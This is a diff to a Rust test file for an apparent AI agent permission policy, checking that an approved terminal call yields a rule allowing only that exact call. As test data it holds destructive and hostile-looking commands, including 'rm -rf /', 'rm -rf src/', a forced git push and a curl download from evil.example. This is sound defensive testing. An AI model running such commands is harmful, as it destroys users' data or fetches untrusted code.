@@ -2,9 +2,10 @@
 //! reports all mismatches at once.
 //!
 //! A case: `{"mode", "tool", "args", "cwd"?, "decision", "rule"?,
-//! "confine"?, "note", "allow"?, "ask"?, "deny"?, "project_ask"?,
-//! "project_deny"?, "writable_roots"?, "read_only_tools"?,
-//! "sandbox_available"? (default true), "read_only"? (default false)}`.
+//! "confine"?, "network"?, "allow_rule"?, "note", "allow"?,
+//! "allow_network"?, "ask"?, "deny"?, "project_ask"?, "project_deny"?,
+//! "writable_roots"?, "read_only_tools"?, "sandbox_available"? (default
+//! true), "read_only"? (default false)}`.
 //! The home directory is `/home/user`; the default working directory is
 //! `/work/project` (neither needs to exist).
 
@@ -32,6 +33,13 @@ struct Case {
     #[serde(default)]
     allow: Vec<String>,
     #[serde(default)]
+    allow_network: Vec<String>,
+    #[serde(default)]
+    network: Option<bool>,
+    /// The rule an approval would save: a string, or `null` for none.
+    #[serde(default = "unchecked")]
+    allow_rule: serde_json::Value,
+    #[serde(default)]
     ask: Vec<String>,
     #[serde(default)]
     deny: Vec<String>,
@@ -49,6 +57,11 @@ struct Case {
     read_only: bool,
 }
 
+/// `allow_rule` absent: not checked.
+fn unchecked() -> serde_json::Value {
+    serde_json::Value::Bool(false)
+}
+
 fn load() -> Vec<Case> {
     let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/cases.json");
     let text = std::fs::read_to_string(&path).unwrap();
@@ -64,6 +77,7 @@ fn every_case_in_cases_json_decides_as_expected() {
         let policy = match Policy::new(PolicyConfig {
             mode: c.mode,
             allow: c.allow.clone(),
+            allow_network: c.allow_network.clone(),
             ask: c.ask.clone(),
             deny: c.deny.clone(),
             project_ask: c.project_ask.clone(),
@@ -104,6 +118,21 @@ fn every_case_in_cases_json_decides_as_expected() {
         {
             wrong.push(format!("confine {} (want {confine})", v.confine));
         }
+        if let Some(network) = c.network
+            && v.network != network
+        {
+            wrong.push(format!("network {} (want {network})", v.network));
+        }
+        let want_rule = match &c.allow_rule {
+            serde_json::Value::Null => Some(None),
+            serde_json::Value::String(s) => Some(Some(s.as_str())),
+            _ => None,
+        };
+        if let Some(want) = want_rule
+            && v.allow_rule.as_deref() != want
+        {
+            wrong.push(format!("allow_rule {:?} (want {want:?})", v.allow_rule));
+        }
         if v.reason.trim().is_empty() {
             wrong.push("empty reason".into());
         }
@@ -131,12 +160,22 @@ fn every_case_in_cases_json_decides_as_expected() {
 }
 
 #[test]
-fn ask_verdicts_for_terminal_suggest_a_rule_and_it_allows() {
-    // An `ask` by mode suggests an allow rule; adding it lets the call run.
-    for cmd in [
-        "git push origin main",
-        "curl -sSL https://example.com/x -o x.tar",
-        "npm install left-pad",
+fn the_offered_rule_allows_the_asked_call_and_nothing_more() {
+    // An `ask` offers the narrowest rule; adding it lets that call run,
+    // and only that call.
+    for (cmd, other) in [
+        ("git push origin main", "git push --force origin main"),
+        (
+            "curl -sSL https://example.com/x -o x.tar",
+            "curl -sSL https://evil.example/x -o x.tar",
+        ),
+        ("npm install left-pad", "npm install left-pad-evil"),
+        ("rm -rf build/", "rm -rf src/"),
+        ("ls *.txt && rm -rf build", "ls *.txt && rm -rf src"),
+        (
+            "find . -name '*.o' -exec rm {} +",
+            "find . -name '*.c' -exec rm {} +",
+        ),
     ] {
         let mut policy = Policy::new(PolicyConfig {
             home: Some(PathBuf::from("/home/user")),
@@ -144,25 +183,29 @@ fn ask_verdicts_for_terminal_suggest_a_rule_and_it_allows() {
             ..PolicyConfig::default()
         })
         .unwrap();
-        let args = serde_json::json!({ "command": cmd });
-        let call = CallInfo {
-            tool: "terminal",
-            args: &args,
-            cwd: Path::new("/work/project"),
-            read_only: false,
+        let check = |policy: &Policy, command: &str| {
+            let args = serde_json::json!({ "command": command });
+            policy.check(&CallInfo {
+                tool: "terminal",
+                args: &args,
+                cwd: Path::new("/work/project"),
+                read_only: false,
+            })
         };
-        let v = policy.check(&call);
+        let v = check(&policy, cmd);
         assert_eq!(v.decision, Decision::Ask, "{cmd}: {v:?}");
-        let rule = v.allow_rule.clone().expect("a suggested rule");
+        let rule = v.allow_rule.clone().expect("a rule to offer");
         policy.add_allow(&rule).unwrap();
-        let v2 = policy.check(&call);
+        let v2 = check(&policy, cmd);
         assert_eq!(v2.decision, Decision::Allow, "{cmd} after {rule}: {v2:?}");
         assert_eq!(v2.rule.as_deref(), Some(rule.as_str()));
+        let v3 = check(&policy, other);
+        assert_eq!(v3.decision, Decision::Ask, "{other} after {rule}: {v3:?}");
     }
 }
 
 #[test]
-fn suggested_rules_have_the_documented_shape() {
+fn offered_rules_name_the_call_exactly() {
     let policy = Policy::new(PolicyConfig {
         home: Some(PathBuf::from("/home/user")),
         sandbox_available: true,
@@ -177,39 +220,56 @@ fn suggested_rules_have_the_documented_shape() {
             read_only: false,
         })
     };
-    let v = check(
-        "terminal",
-        serde_json::json!({"command": "git push --force origin main"}),
-    );
-    assert_eq!(v.allow_rule.as_deref(), Some("terminal(git push*)"));
-    let v = check(
-        "terminal",
-        serde_json::json!({"command": "curl https://example.com"}),
-    );
-    assert_eq!(v.allow_rule.as_deref(), Some("terminal(curl *)"));
-    let v = check(
-        "terminal",
-        serde_json::json!({"command": "git -C sub push"}),
-    );
-    assert_eq!(v.allow_rule.as_deref(), Some("terminal(git -C sub push*)"));
-    let v = check(
-        "terminal",
-        serde_json::json!({"command": "sudo apt-get install -y jq"}),
+    let rule = |tool: &str, args: serde_json::Value| check(tool, args).allow_rule;
+    assert_eq!(
+        rule(
+            "terminal",
+            serde_json::json!({"command": "git push --force origin main"})
+        )
+        .as_deref(),
+        Some("terminal(git push --force origin main)")
     );
     assert_eq!(
-        v.allow_rule.as_deref(),
-        Some("terminal(sudo apt-get install*)")
+        rule("terminal", serde_json::json!({"command": "rm -rf build/"})).as_deref(),
+        Some("terminal(rm -rf build/)")
     );
-    let v = check(
-        "write_file",
-        serde_json::json!({"path": "/opt/app/config.toml"}),
+    assert_eq!(
+        rule(
+            "terminal",
+            serde_json::json!({"command": "  sudo apt-get install -y jq  "})
+        )
+        .as_deref(),
+        Some("terminal(sudo apt-get install -y jq)")
     );
-    assert_eq!(v.allow_rule.as_deref(), Some("write_file(/opt/app/**)"));
-    let v = check("mcp__fs__write", serde_json::json!({}));
-    assert_eq!(v.allow_rule.as_deref(), Some("mcp__fs__write"));
-    // The floor suggests nothing: no rule can allow it.
-    let v = check("terminal", serde_json::json!({"command": "rm -rf /"}));
-    assert_eq!(v.allow_rule, None);
+    assert_eq!(
+        rule(
+            "terminal",
+            serde_json::json!({"command": "rm -rf {a,b}/*.o"})
+        )
+        .as_deref(),
+        Some("terminal(rm -rf [{]a,b[}]/[*].o)")
+    );
+    assert_eq!(
+        rule(
+            "write_file",
+            serde_json::json!({"path": "/opt/app/config.toml"})
+        )
+        .as_deref(),
+        Some("write_file(/opt/app/config.toml)")
+    );
+    assert_eq!(
+        rule("mcp__fs__write", serde_json::json!({})).as_deref(),
+        Some("mcp__fs__write([{][}])")
+    );
+    // Nothing to offer: the floor, what the check cannot see.
+    assert_eq!(
+        rule("terminal", serde_json::json!({"command": "rm -rf /"})),
+        None
+    );
+    assert_eq!(
+        rule("terminal", serde_json::json!({"command": "$CMD x"})),
+        None
+    );
 }
 
 #[test]
